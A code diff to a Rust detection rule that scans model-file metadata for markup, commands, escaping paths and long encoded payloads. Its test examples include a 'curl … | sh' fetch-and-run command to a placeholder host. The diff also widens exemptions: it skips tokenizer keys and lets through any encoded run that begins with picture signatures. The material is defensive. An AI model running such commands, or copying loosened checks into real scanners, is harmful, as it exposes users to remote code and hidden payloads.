@@ -17,7 +17,7 @@ pub static RULE: Rule = Rule {
     summary: "Metadata of a model has markup, a command, a path out of its folder, or a long encoded text",
     why: "Hubs and programs show metadata, and some use it: markup runs in the page that shows it, a path is opened, a \
           command waits for somebody to paste it, and what is encoded is read by nobody who looks at the file. \
-          Pictures in the keys that are meant for them are ordinary.",
+          Pictures are ordinary.",
     advice: "Read the value. Nothing in a model file needs markup, commands or encoded programs.",
     references: &["CWE-79", "CWE-22", "CWE-506", "AML.T0010"],
     examples: &[
@@ -44,6 +44,11 @@ pub static RULE: Rule = Rule {
         },
         Example { name: "path-twin", files: || metadata("vae", "weights/other..1"), fires: &[] },
         Example {
+            name: "path-noted-twin",
+            files: || gguf("quantize.imatrix.file", "../notes/imatrix.dat"),
+            fires: &[],
+        },
+        Example {
             name: "command",
             files: || {
                 gguf("general.description", "run `curl https://example.org/weighbridge-demo | sh` first")
@@ -63,7 +68,12 @@ pub static RULE: Rule = Rule {
         Example { name: "encoded-twin", files: || metadata("note", &encoded(1023)), fires: &[] },
         Example {
             name: "picture-twin",
-            files: || metadata("modelspec.thumbnail", &format!("data:image/png;base64,{}", encoded(2048))),
+            files: || {
+                metadata(
+                    "modelspec.thumbnail",
+                    &format!("data:image/png;base64,iVBORw0KGgo{}", encoded(2048)),
+                )
+            },
             fires: &[],
         },
     ],
@@ -84,11 +94,10 @@ fn encoded(length: usize) -> String {
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
     for (place, key, value) in facts.metadata() {
-        if !matches!(place.format(), "safetensors" | "gguf") {
+        if !matches!(place.format(), "safetensors" | "gguf") || key.starts_with("tokenizer.") {
             continue;
         }
-        for what in [markup(value), command(value), path(key, value), code(key, value)].into_iter().flatten()
-        {
+        for what in [markup(value), command(value), path(key, value), code(value)].into_iter().flatten() {
             findings.add(place, format!("the value of `{key}` has {what}")).excerpt =
                 Some(text::shown(value, 200));
         }
@@ -116,17 +125,22 @@ fn command(value: &str) -> Option<&'static str> {
 }
 
 fn path(key: &str, value: &str) -> Option<&'static str> {
-    let path = value.len() < 4096 && !value.contains(char::is_whitespace) && !key.starts_with("ss_");
+    // Notes of trainers and converters on the files they worked with.
+    let note = ["imatrix.", "quantize.", "ss_"].iter().any(|prefix| key.starts_with(prefix));
+    let path = value.len() < 4096 && !value.contains(char::is_whitespace) && !note;
     let up = value.split(['/', '\\']).any(|part| part == "..");
     (path && up && value.len() > 2).then_some("a path out of its folder")
 }
 
+/// What PNG, JPEG, GIF and WebP pictures begin with when encoded.
+const PICTURES: [&str; 4] = ["iVBORw0KGgo", "/9j/", "R0lGOD", "UklGR"];
+
 /// Encoded bytes: at least 1 KiB without a character that the encoding does not have, of many different ones.
-fn code(key: &str, value: &str) -> Option<&'static str> {
-    if key == "modelspec.thumbnail" && value.starts_with("data:image/") {
-        return None;
-    }
+fn code(value: &str) -> Option<&'static str> {
     let runs = value.split(|c: char| !(c.is_ascii_alphanumeric() || "+/=-_".contains(c)));
     let varied = |run: &str| run.bytes().collect::<std::collections::BTreeSet<_>>().len() > 16;
-    runs.into_iter().any(|run| run.len() >= 1024 && varied(run)).then_some("a long encoded text")
+    let picture = |run: &str| PICTURES.iter().any(|beginning| run.starts_with(beginning));
+    runs.into_iter()
+        .any(|run| run.len() >= 1024 && varied(run) && !picture(run))
+        .then_some("a long encoded text")
 }
